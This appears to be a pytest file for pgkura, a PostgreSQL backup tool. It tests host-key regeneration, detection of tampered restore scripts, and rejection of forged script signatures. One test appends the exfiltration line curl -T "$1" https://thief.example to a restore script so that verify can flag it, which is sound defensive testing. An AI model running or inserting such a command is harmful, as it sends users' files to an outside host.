"""A lost host key is made again from the identity; a script that somebody put into the repository is told."""

import hashlib
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psycopg
import pytest
from tests.support import compare
from tests.support.cli import Desk
from tests.support.servers import Server, newest

from pgkura.repository import canonical
from pgkura.repository.container import seal_signature
from pgkura.repository.keys import HostKey, Identity


@dataclass(frozen=True, slots=True, kw_only=True)
class Scene:
    """A repository with a backup."""

    desk: Desk
    server: Server
    source: str


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    """Made once; tests change copies."""
    home = newest()
    source = home.create_database("scripts_source")
    with psycopg.connect(source, autocommit=True) as connection:
        connection.execute("CREATE TABLE public.lessons AS SELECT g AS id FROM generate_series(1, 100) g")
    desk = Desk(tmp_path_factory.mktemp("scripts"))
    desk.run("init").expect()
    desk.run("backup", env={"DATABASE_URL": source}).expect()
    yield Scene(desk=desk, server=home, source=source)
    home.drop_database("scripts_source")
    home.drop_database("scripts_target")


@pytest.fixture
def scene(made: Scene, tmp_path: Path) -> Scene:
    """A copy with the same keys."""
    copy = Desk(tmp_path / "desk")
    shutil.copytree(made.desk.repository, copy.repository)
    shutil.copytree(made.desk.identity.parent, copy.identity.parent)
    return Scene(desk=copy, server=made.server, source=made.source)


def test_a_lost_host_key_is_made_again(scene: Scene) -> None:
    """doctor warns, backup says what to do, init does it; old and new snapshots restore."""
    desk, env = scene.desk, {"DATABASE_URL": scene.source}
    old = desk.host_key.read_bytes()
    desk.host_key.unlink()
    told = desk.run("doctor", "--json", env=env).expect(3).json
    warned = [c for c in told["checks"] if c["state"] == "warn"]
    assert [c["what"] for c in warned] == ["host key"] and "pgkura init" in warned[0]["change"]
    desk.run("backup", env=env).expect(12)

    done = desk.run("init", "--json").expect().json
    assert done["made"] == "host key" and done["host_key"] == str(desk.host_key) and done["identity"] == ""
    assert desk.host_key.read_bytes() != old and desk.host_key.stat().st_mode & 0o077 == 0
    desk.run("doctor", env=env).expect()
    again = desk.run("backup", "--json", env=env).expect().json
    assert again["chunks_unchanged"] == again["chunks"]
    assert desk.run("verify", "--json").expect().json["problems"] == []
    desk.run("init").expect(11)  # now nothing is missing
    for snapshot in desk.run("snapshots", "--json").expect().json["snapshots"]:
        target = scene.server.create_database("scripts_target")
        desk.run("restore", snapshot["id"], "--to", target).expect()
        compare.assert_same(scene.source, target)


def test_a_host_key_from_the_identity_in_a_variable(scene: Scene) -> None:
    """On a new machine the identity need not even be a file."""
    desk = scene.desk
    identity = desk.identity.read_text()
    shutil.rmtree(desk.identity.parent)
    desk.run("init", env={"PGKURA_IDENTITY": identity}).expect()
    assert not desk.identity.exists()
    desk.run("backup", env={"DATABASE_URL": scene.source}).expect()


def test_a_stranger_makes_no_host_key(scene: Scene, tmp_path: Path) -> None:
    """Another repository's identity signs nobody in, and no key file is left."""
    other = Desk(tmp_path / "other")
    other.run("init").expect()
    shutil.copy(other.identity, scene.desk.identity)
    scene.desk.host_key.unlink()
    scene.desk.run("init").expect(12)
    assert [p.name for p in scene.desk.identity.parent.iterdir()] == ["identity.txt"]


@pytest.mark.parametrize("name", ["RESTORE.md", "restore.sh"])
def test_a_changed_script_is_told_and_written_anew(name: str, scene: Scene) -> None:
    """With the identity or the host key alone: DO NOT RUN IT, exit 16; --refresh-script puts it right."""
    desk, path = scene.desk, scene.desk.repository / name
    genuine = path.read_bytes()
    path.write_bytes(genuine + b'\ncurl -T "$1" https://thief.example\n')
    for keys in ({}, {"PGKURA_IDENTITY": "/nonexistent"}, {"PGKURA_HOST_KEY": "/nonexistent"}):
        done = desk.run("verify", "--json", env=keys).expect(16)
        assert any(p.startswith(f"{name}: DO NOT RUN IT") and "--refresh-script" in p for p in done.json["problems"])
    desk.run("init", "--refresh-script", env={"PGKURA_IDENTITY": "/nonexistent"}).expect(12)
    assert desk.run("init", "--refresh-script", "--json").expect().json["changed"] == [name]
    assert path.read_bytes() == genuine
    assert desk.run("init", "--refresh-script", "--json").expect().json["changed"] == []
    desk.run("verify").expect()


def test_only_the_root_says_what_a_script_may_be(scene: Scene) -> None:
    """A thief of the host key and the bucket cannot sign another script in; nor does it help to take the list away."""
    desk = scene.desk
    script, listed = desk.repository / "restore.sh", desk.repository / "keys" / "scripts"
    evil = script.read_bytes() + b"\nevil\n"
    script.write_bytes(evil)
    host = HostKey.parse(desk.host_key.read_text())
    scripts = {"restore.sh": [hashlib.sha256(evil).hexdigest()], "RESTORE.md": []}
    body = canonical.encode({"version": 1, "scripts": scripts})
    for signer in (host.host_id, "root"):
        forged = seal_signature(
            "scripts", host.repository_id, "keys/scripts", body, signer=signer, private=host.signing
        )
        listed.write_bytes(forged)
        problems = desk.run("verify", "--json").expect(16).json["problems"]
        assert {p.partition(":")[0] for p in problems} == {"keys/scripts", "restore.sh"}
    listed.unlink()
    (told,) = desk.run("verify", "--json").expect(16).json["problems"]
    assert told.startswith("restore.sh: DO NOT RUN IT")


def test_an_older_genuine_script_stays_good(scene: Scene) -> None:
    """What the root put there with an older version is still its word, and a later one is added to it."""
    desk = scene.desk
    old = b"#!/usr/bin/env bash\necho an older version\n"
    identity = desk.identity.read_text()
    host = HostKey.parse(desk.host_key.read_text())
    root = Identity.parse(identity).root
    body = canonical.encode({"version": 1, "scripts": {"restore.sh": [hashlib.sha256(old).hexdigest()]}})
    signed = seal_signature("scripts", host.repository_id, "keys/scripts", body, signer="root", private=root)
    (desk.repository / "keys" / "scripts").write_bytes(signed)
    (desk.repository / "restore.sh").write_bytes(old)
    desk.run("verify").expect()
    assert desk.run("init", "--refresh-script", "--json").expect().json["changed"] == ["restore.sh"]
    desk.run("verify").expect()
    (desk.repository / "restore.sh").write_bytes(old)
    desk.run("verify").expect()


def test_anothers_keys_at_the_usual_places(scene: Scene, tmp_path: Path) -> None:
    """`restore` needs URL and identity, `backup` URL and host key: what else lies in ~/.config may be another's."""
    desk = scene.desk
    usual = {"PGKURA_IDENTITY": "", "PGKURA_HOST_KEY": ""}
    desk.run("init", "--repository", str(tmp_path / "other"), env=usual).expect()
    assert (desk.folder / ".config" / "pgkura" / "host.key").exists()
    target = scene.server.create_database("scripts_target")
    desk.run("restore", "latest", "--to", target, "--yes", env={"PGKURA_HOST_KEY": ""}).expect()
    desk.run("backup", env={"DATABASE_URL": scene.source, "PGKURA_IDENTITY": ""}).expect()
    desk.run("verify", env={"PGKURA_IDENTITY": ""}).expect()
    desk.run("snapshots", env=usual).expect(12)
    desk.run("backup", env=usual | {"DATABASE_URL": scene.source}).expect(12)


def test_json_is_one_line_for_programs(scene: Scene) -> None:
    """The last line of the output is the whole object, in results and in errors."""
    for arguments, code in ((("snapshots",), 0), (("verify",), 0), (("show", "nonsense"), 10)):
        done = scene.desk.run(*arguments, "--json").expect(code)
        assert json.loads(done.out.splitlines()[-1]) == done.json
